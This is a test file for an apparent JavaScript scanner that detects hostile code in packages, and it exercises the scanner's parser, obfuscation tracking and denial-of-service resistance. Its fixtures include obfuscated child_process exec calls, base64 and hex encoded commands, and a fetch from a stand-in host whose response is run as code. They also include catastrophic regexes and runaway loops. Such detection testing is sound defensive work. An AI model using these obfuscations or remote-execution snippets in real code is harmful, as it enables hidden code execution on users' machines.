/** How JavaScript is read: the parser, the values it follows, and what hostile text does to both. */
import { describe, expect, test } from 'vitest';
import { Parser } from '../../../src/supply/code/javascript-parser.ts';
import type { Block, Node } from '../../../src/supply/code/javascript-syntax.ts';
import { safePattern } from '../../../src/supply/code/javascript-texts.ts';
import { scriptIssues } from '../../../src/supply/code/javascript.ts';

const none = (): void => { /* no budget */ };

function parsed(source: string): { readonly program: Block; readonly calls: readonly string[] } {
  const program = new Parser(source, none).program();
  const calls: string[] = [];
  const open: unknown[] = [program];
  while (open.length > 0) {
    const at = open.pop();
    if (Array.isArray(at)) open.push(...(at as unknown[]));
    else if (typeof at === 'object' && at !== null) {
      const node = at as Node;
      if (node.kind === 'call') calls.push(node.callee.kind === 'name' ? node.callee.name : node.callee.kind === 'member' ? node.callee.name : node.callee.kind);
      open.push(...Object.values(at));
    }
  }
  return { program, calls };
}

function worst(source: string, kind: 'module' | 'install' | 'page' = 'module'): string {
  const levels = new Set(scriptIssues(source, kind, none).map(({ level }) => level));
  return levels.has('danger') ? 'danger' : levels.has('odd') ? 'odd' : 'nothing';
}

describe('the parser finds the calls of', () => {
  test.each([
    ['regular expressions and divisions', 'a = b / c(1) / d; e = /f(g)/.test(h("/")); if (x) /y(z)/.exec(k)', ['c', 'test', 'h', 'exec']],
    ['templates in templates', 'a(`x ${b(`y ${c("}")} z`)} w`)', ['a', 'b', 'c']],
    ['comments', 'a() // b()\n/* c() */ d() <!-- e()\nf()', ['a', 'd', 'f']],
    ['types', 'const f = async <T extends A<B>>(x: Map<string, () => void>, y?: T[]): Promise<T | undefined> => g<T>(x as unknown as C<D>)!;', ['g']],
    ['classes', 'export abstract class A<T> extends B(1)<T> implements C { private readonly x: string = d(); static { e(); } get f(): number { return g(); } }', ['B', 'd', 'e', 'g']],
    ['elements', 'const v = <A b={c()} {...d()}>it\'s {e()} <F/> {"}"} </A>; g();', ['c', 'd', 'e', 'g']],
    ['statements without semicolons', 'let a = b\nc()\nfor (const x of d()) e()\ndo f(); while (g())\nh: for (;;) break h', ['c', 'd', 'e', 'f', 'g']],
    ['arrow functions in choices', 'a ? (b) : c => d(); e ? (f) => g() : h()', ['d', 'g', 'h']],
    ['types without values', 'interface A { b(): void }\ntype C = { d(): E } | F<"g()">;\ndeclare module "x" { }\nh()', ['h']],
    ['names by escapes', '\\u0065val("x")', ['eval']],
  ] as const)('%s', (_, source, calls) => {
    expect(parsed(source).calls.toSorted()).toEqual([...calls].toSorted());
  });
});

describe('what is put together is followed', () => {
  test.each([
    ['names', 'globalThis["ev" + "al"](x)'],
    ['reversed names', 'require("ssecorp_dlihc".split("").reverse().join("")).exec("id")'],
    ['aliases', 'const { r = require } = {}; const m = r("child_pro" + "cess")'],
    ['code in numbers', 'let s = ""; for (const n of [100, 111, 40, 41]) s += String.fromCharCode(n ^ 1); setTimeout(s, 1)'],
    ['commands through functions', 'const go = (c) => require("child_process").exec(c); const d = (x) => Buffer.from(x, "hex").toString(); go(d("6964203e202f746d702f78"))'],
    ['signs without letters', '[]["filter"]["constructor"](atob("ZmV0Y2goJ2h0dHBzOi8vYS5iYWQvJyk="))()'],
    ['what a request brings', 'fetch("https://a.bad.io/").then((r) => r.text()).then((t) => { const f = new Function(t); f(); })'],
  ])('%s', (_, source) => {
    expect(worst(source)).toBe('danger');
  });

  test.each([
    ['names that are written out', 'globalThis["eval"]; const m = require("child_process"); m.execFileSync("git", ["log"])'],
    ['a module of several pieces', 'require("./lang/" + name + ".js"); require("pa" + "th")'],
    ['numbers that are no code', 'let s = ""; for (const n of [100, 111]) s += String.fromCharCode(n ^ 1); console.log(s)'],
    ['a variable that opens a door', 'fetch("https://api.github.com/user", { headers: { authorization: "Bearer " + process.env.GITHUB_TOKEN } })'],
    ['what the own page brings', 'fetch("/parts/a.json").then((r) => r.json()).then((d) => render(d))'],
  ])('but not %s', (_, source) => {
    expect(worst(source)).toBe('nothing');
  });

  test('an arm that is not taken is read as well', () => {
    expect(worst('if (1 > 2) { eval(atob("cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk=")); }')).toBe('danger');
    expect(worst('module.exports = () => { return; eval(atob("cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk=")); }')).toBe('danger');
  });
});

describe('hostile text', () => {
  const deep: readonly (readonly [string, string])[] = [
    ...['(', '[', '{', '!', 'a=>', 'a?b:', 'f(', '`${', '<a>', '<a b={', '<T>(', 'new ', 'function(){', 'class A{a(){', '({a:', 'const {a:', 'a=', 'if(a){}else ', 'for(;;)', 'do ', 'a`', 'f<', '(a):', 'await ', '@a ', '/*', 'x:', '`', 'a?.', 'type A='].map((each) => [each, each.repeat(20_000)] as const),
    ['sums', `a${'+a'.repeat(50_000)}`], ['chains', `a${'.b()'.repeat(50_000)}`], ['types', `let a: ${'A<'.repeat(20_000)}`], ['conditions of types', `type A = ${'B extends C ? D : '.repeat(10_000)}E`],
    ['a loop without end', 'let s = "x"; while (true) { s += s; }'], ['a list that grows', 'const a = [1]; for (const x of a) a.push(x);'], ['a function that calls itself', 'function f(n) { return f(n + 1) + f(n + 2); } f(1);'],
    ['code that makes itself', 'let c = "eval(c)"; eval(c); function f() { new Function("f()")(); } f();'], ['a ring', 'const a = {}; a.a = a; const b = [a]; b.push(b); fetch("https://a.bad/", { body: JSON.stringify(b) }); eval(b);'],
    ['long repetitions', '"a".repeat(2e5).repeat(2e5); "a".padEnd(1e9); new Array(1e9); Array(1e9).fill(0);'], ['slow patterns', 'const t = "a".repeat(1e5) + "b"; t.replace(/a*a*c/g, ""); t.match(/(a+)+$/); t.split(/a*b/);'],
    ['a class that is its parent', 'class B extends B { constructor() { super(); } } new B();'],
  ];
  test.each(deep)('does not stop the reading: %s', (_, source) => {
    let steps = 0;
    const levels = scriptIssues(source, 'module', () => { steps++; }).map(({ level }) => level);
    expect(levels.every((level) => ['danger', 'odd', 'note'].includes(level))).toBe(true);
    // One step of the budget stands for some sixty of the reading.
    expect(steps).toBeLessThan(60_000);
  });

  test('that is nested too deep is no clean code', () => {
    expect(worst(`x = ${'['.repeat(2000)}${']'.repeat(2000)}`)).toBe('odd');
  });

  test('is cut at any place', () => {
    const source = 'const { a: [b = `x${c}`], ...d } = await e?.(/f[/]/g, <G h={i}>j</G>); class K extends L { static #m = n => ({ o() { return p ? q : r; } }); } switch (s) { case 1: eval(atob("ZXZhbA==")); }';
    for (let end = 0; end <= source.length; end++) expect(() => scriptIssues(source.slice(0, end), 'install', none)).not.toThrow();
  });

  test('takes time in line with its length', () => {
    const steps = (source: string): number => {
      let count = 0;
      scriptIssues(source, 'module', () => { count++; });
      return count;
    };
    const piece = 'function f(a){var b=a||{},c=[];for(var d in b)c.push(d+"="+encodeURIComponent(b[d]));return c.join("&")}f({x:1});';
    const [one, four] = [steps(piece.repeat(1000)), steps(piece.repeat(4000))];
    expect(four).toBeLessThan(6 * one);
  });
});

describe('patterns that a program brings', () => {
  test.each(['a?'.repeat(40) + 'b', 'a{0,99}'.repeat(6) + 'b', '(a|aa)'.repeat(40) + 'b', 'a+a+a+b', '(a+)+b', '.*?.*?.*?b'])('%s is not run', (pattern) => {
    expect(safePattern(pattern, 'g', 1000)).toBeUndefined();
  });

  test('two repeats are run over short texts only, and a question mark behind one is no way of its own', () => {
    expect(safePattern('a+b+c', '', 200)).toBeInstanceOf(RegExp);
    expect(safePattern('a+b+c', '', 201)).toBeUndefined();
    expect(safePattern('x.*?y', '', 2000)).toBeInstanceOf(RegExp);
    expect(safePattern('x.*?y', '', 2001)).toBeUndefined();
    expect(safePattern('\\?\\?\\?[?*+]x', 'g', 100_000)).toBeInstanceOf(RegExp);
  });

  test.each(['const t = s.replace(/a+b/g, "x")', 'const t = s.split("").reverse().join("")', 'const t = [...s]', 'const t = Array.from(s)', 'const t = JSON.parse("[" + s + "]")', 'const t = s + i'])('a loop without end over %s ends', { timeout: 20_000 }, (act) => {
    expect(scriptIssues(`let s = 'a'.repeat(200000), n = 0;\nfor (let i = 0; i < 1000000; i++) { ${act}; n += t.length; }\neval('x' + n);`, 'module', none)).toBeDefined();
  });

  test('a file with one that goes more ways than can be counted is read at once', { timeout: 10_000 }, () => {
    expect(scriptIssues(`const s = 'a'.repeat(3000);\neval(s.replace(/${'a?'.repeat(40)}${'a'.repeat(40)}b/, 'x'));`, 'module', none)).toBeDefined();
  });
});
